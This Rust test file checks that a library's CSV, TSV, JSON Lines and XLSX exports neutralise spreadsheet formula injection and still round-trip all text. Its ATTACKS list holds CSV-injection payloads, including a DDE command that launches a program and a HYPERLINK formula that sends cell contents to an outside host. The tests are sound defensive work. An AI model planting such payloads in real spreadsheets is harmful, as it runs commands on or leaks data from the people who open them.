//! Tables: every text comes back, nothing in them is run by a spreadsheet.

use proptest::prelude::*;

use super::{give, take};
use crate::{Data, Format, Taken};

const TABLES: [Format; 4] = [Format::Csv, Format::Tsv, Format::JsonLines, Format::Xlsx];

fn written(format: Format, data: &Data) -> Vec<u8> {
    let taken = Taken {
        data: Some(data.clone()),
        ..Taken::default()
    };
    give(format, &taken).files.remove(0).1
}

/// Attacks as OWASP lists them ("CSV Injection"), and what looks like our own guard.
const ATTACKS: [&str; 12] = [
    "=1+1",
    "+SUM(A1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "＝1",
    "'=1",
    "''=1",
    "=HYPERLINK(\"http://x?\"&A1,\"a\")",
];

#[test]
fn no_cell_begins_as_a_formula_and_all_come_back() {
    let data = Data {
        columns: vec!["=a".into(), "b".into()],
        rows: ATTACKS
            .iter()
            .map(|it| vec![(*it).to_owned(), "x".to_owned()])
            .collect(),
    };
    for format in [Format::Csv, Format::Tsv] {
        let bytes = written(format, &data);
        let delimiter = if format == Format::Csv { b',' } else { b'\t' };
        // Another reader of CSV sees no cell that begins with a sign of a formula.
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .delimiter(delimiter)
            .from_reader(&*bytes);
        for row in reader.records() {
            for cell in &row.expect("csv") {
                assert!(
                    !cell.trim_start().starts_with(['=', '+', '-', '@', '＝']),
                    "{cell:?}"
                );
                assert!(!cell.starts_with(['\t', '\r', '\n']), "{cell:?}");
            }
        }
        assert_eq!(
            take(format, "x.csv", &bytes).data.as_ref(),
            Some(&data),
            "{format:?}"
        );
    }
    // A spreadsheet's cells are texts, and no formula stands in the file.
    let bytes = written(Format::Xlsx, &data);
    assert!(!String::from_utf8_lossy(&bytes).contains("<f>"));
    assert_eq!(
        take(Format::Xlsx, "x.xlsx", &bytes).data.as_ref(),
        Some(&data)
    );
}

#[test]
fn numbers_stay_numbers() {
    let data = Data {
        columns: vec!["n".into()],
        rows: vec![vec!["-5".into()], vec!["+3.5".into()], vec![String::new()]],
    };
    assert_eq!(written(Format::Csv, &data), b"n\r\n-5\r\n+3.5\r\n\"\"\r\n");
    assert_eq!(
        take(Format::Csv, "x.csv", &written(Format::Csv, &data))
            .data
            .as_ref(),
        Some(&data)
    );
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 128, failure_persistence: None, ..Default::default() })]

    #[test]
    fn every_text_comes_back(rows in prop::collection::vec(prop::collection::vec("['=+@,;\t\r\n\"a _x0-9<&-]{0,8}|\\PC{0,6}", 3), 0..6)) {
        let data = Data { columns: vec!["a".into(), "b".into(), "c".into()], rows };
        for format in TABLES {
            // Without rows, lines of JSON name no columns.
            if data.rows.is_empty() && format == Format::JsonLines {
                continue;
            }
            let bytes = written(format, &data);
            let again = take(format, "x", &bytes).data;
            prop_assert_eq!(again.as_ref(), Some(&data), "{:?} {}", format, String::from_utf8_lossy(&bytes));
        }
    }
}
